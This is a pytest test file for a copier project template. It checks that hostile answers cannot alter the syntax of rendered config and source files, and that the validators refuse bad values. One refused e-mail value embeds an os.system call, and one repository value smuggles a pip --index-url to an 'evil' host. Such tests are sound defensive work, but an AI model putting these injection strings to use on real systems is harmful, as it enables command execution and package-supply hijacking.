"""Boundary: answers -> rendered files. An answer is data in every file it reaches: the
template writes it through `templates/includes/encode.jinja`, so no answer can change the
syntax of a Python, TOML, YAML or JSON file, and each comes back verbatim where it is used.

Each example is a real `copier copy` of this checkout's template (copied once, without
git, so copier renders it in place) with answers drawn from the hostile catalogue across
the option families. GOLDPATH_HOSTILE_EXAMPLES sets how many (CI: 40; thousands by hand)."""

from __future__ import annotations

import ast
import json
import os
import re
import string
import tomllib
from pathlib import Path
from typing import Any

import copier
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement

from generator._options import defaults
from generator._template import REPO_ROOT
from tests.conftest import template_copy
from tests.hostile import hostile_text, single_line

# Not in the quick subset (-m "not slow"): a real copier copy per hostile example.
pytestmark = pytest.mark.slow

EXAMPLES = int(os.environ.get("GOLDPATH_HOSTILE_EXAMPLES", "40"))

# What copier.yml's validators mean (a name is one line, an e-mail address is one), not
# what is safe: every character they admit is drawn.
_ATOM = string.ascii_letters + string.digits + "!#$%&'*+/=?^_`{|}~-"
emails = st.builds(
    lambda local, host: f"{local}@{host}.example",
    st.text(_ATOM, min_size=1, max_size=20),
    st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True),
)
names = (
    hostile_text.map(single_line)
    .map(lambda t: t[:100])
    .filter(
        lambda t: (
            t.strip()
            and not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in t)
            and "\u2028" not in t
            and "\u2029" not in t
        )
    )
)
descriptions = hostile_text.map(lambda t: t[:500])
families = st.sampled_from(
    [
        {},
        {"serving": "flask", "cloud": "azure", "ci": "both"},
        {"serving": "none", "databricks": True, "databricks_compute": "job_cluster"},
        {"project_kind": "llm", "cloud": "azure", "ci": "azure-devops"},
        {"project_kind": "llm", "databricks": True},
    ]
)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """This checkout's template as a plain folder: copier renders it where it lies."""
    return template_copy(tmp_path_factory.mktemp("template"))


def parse(path: Path) -> Any:
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".py":
        return ast.parse(text, filename=str(path))
    if path.suffix == ".toml":
        return tomllib.loads(text)
    if path.suffix in (".yml", ".yaml"):
        return list(yaml.safe_load_all(text))
    if path.suffix == ".json":
        return json.loads(text)
    return None


def keyword(tree: ast.Module, name: str) -> Any:
    found = [k.value for k in ast.walk(tree) if isinstance(k, ast.keyword) and k.arg == name]
    assert len(found) == 1, name
    return ast.literal_eval(found[0])


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=names, description=descriptions, email=emails, family=families)
def test_answers_never_change_a_rendered_file_s_syntax(
    template: Path,
    tmp_path_factory: pytest.TempPathFactory,
    name: str,
    description: str,
    email: str,
    family: dict[str, Any],
) -> None:
    answers = {"project_name": name, "project_slug": "rfq_model", "description": description,
               "owner_email": email, **family}  # fmt: skip
    project = tmp_path_factory.mktemp("p") / "project"
    copier.run_copy(str(template), str(project), data=answers, defaults=True, quiet=True)

    parsed = {}
    for path in sorted(project.rglob("*")):
        if path.is_file() and path.suffix in (".py", ".toml", ".yml", ".yaml", ".json"):
            relative = str(path.relative_to(project))
            parsed[relative] = parse(path)  # every one parses, whatever the answers

    pyproject = parsed["pyproject.toml"]["project"]
    assert pyproject["description"] == description
    assert pyproject["authors"] == [{"name": "ml-platform", "email": email}]
    record = parsed["governance.yml"][0]
    assert (record["purpose"], record["owner_email"]) == (description, email)
    assert record["risk_tier"] == "medium"
    assert keyword(parsed["infra/__main__.py"], "alert_example") == email
    stack = parsed["infra/Pulumi.yaml"][0]["description"]
    assert (
        stack
        == f"The service stack of {name} (one stack per environment, on the goldpath platform)"
    )
    for env in ("dev", "staging", "prod"):
        config = parsed[f"infra/Pulumi.{env}.yaml"][0]["config"]
        assert config["rfq-model-service:alertEmail"] == email
    copied = parsed[".copier-answers.yml"][0]
    assert (copied["project_name"], copied["description"]) == (name, description)
    requirement = Requirement((project / "infra" / "requirements.txt").read_text().splitlines()[-1])
    assert requirement.url is not None
    assert requirement.url.startswith("git+https://github.com/ml-platform/goldpath@")
    if family.get("databricks"):
        jobs = [
            d for f, d in parsed.items() if f.startswith("resources/") and f.endswith(".job.yml")
        ]
        for job in (j for doc in jobs for j in doc[0]["resources"]["jobs"].values()):
            assert job["email_notifications"]["on_failure"] == [email]
        if family.get("project_kind") != "llm":
            model = parsed["resources/ml.yml"][0]["resources"]["registered_models"]["model"]
            assert model["comment"] == description


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        ({"project_name": "two\nlines"}, "project_name must be one line of text"),
        ({"project_name": "x" * 101}, "project_name is 101 characters long"),
        ({"description": "x" * 501}, "description is 501 characters long"),
        ({"owner_email": 'x"+str(__import__("os").system("id"))+"@a.bc'}, "is not an email"),
        ({"owner_email": "a b@bank.example"}, "is not an email"),
        ({"goldpath_repository": "https://x.example/a\n--index-url https://evil/simple"},
         "that pip can install from"),
        ({"goldpath_repository": "git@github.com:acme/goldpath"}, "that pip can install from"),
    ],
)  # fmt: skip
def test_answers_are_refused_for_what_they_mean(
    template: Path, tmp_path: Path, answer: dict[str, str], message: str
) -> None:
    with pytest.raises(ValueError, match=message):
        copier.run_copy(str(template), str(tmp_path / "p"), data=answer, defaults=True,
                        quiet=True)  # fmt: skip


# What copier.yml's goldpath_repository validator accepts, generated: hosts, ports, users
# and paths of every character it allows, including dots, `%` and `~`.
_SEGMENT = st.text(alphabet=string.ascii_letters + string.digits + "._~%-", min_size=1, max_size=12)
_ACCEPTED_URLS = st.builds(
    lambda scheme, user, host, port, path, git: (
        f"{scheme}://{user}{host}{port}/{'/'.join(path)}{git}"
    ),
    st.sampled_from(["https", "ssh"]),
    st.one_of(st.just(""), _SEGMENT.map(lambda u: u + "@")),
    st.one_of(st.sampled_from(["github.com", "dev.azure.com", "acme.visualstudio.com"]),
              st.from_regex(r"[A-Za-z0-9.-]{1,20}", fullmatch=True)),
    st.one_of(st.just(""), st.integers(1, 65535).map(lambda p: f":{p}")),
    st.lists(_SEGMENT, min_size=1, max_size=5),
    st.sampled_from(["", ".git", "/"]),
)  # fmt: skip
_SAFE_NAME = r"[A-Za-z0-9._~%-]+/[A-Za-z0-9._~%-]+"


@settings(max_examples=200, deadline=None)
@given(url=_ACCEPTED_URLS, ci=st.sampled_from(["github", "azure-devops", "both", "gitlab"]),
       enterprise=st.booleans())  # fmt: skip
def test_goldpath_repository_reaches_pipelines_only_as_a_plain_org_and_name(
    url: str, ci: str, enterprise: bool
) -> None:
    """The answer becomes a `uses:` target (platform_workflows) and an Azure DevOps repository
    resource (platform_templates): only ever `org/name` of the validator's characters, or
    nothing, so it cannot add YAML, a ref or an option to the pipelines."""
    answers = {"goldpath_repository": url, "ci": ci, "github_enterprise": enterprise}
    computed = defaults(REPO_ROOT, answers)
    workflows, templates = computed["platform_workflows"], computed["platform_templates"]
    assert workflows == "" or re.fullmatch(_SAFE_NAME, workflows), workflows
    assert templates == "" or re.fullmatch(rf"(git|github) {_SAFE_NAME}", templates), templates
    assert "@" not in workflows + templates
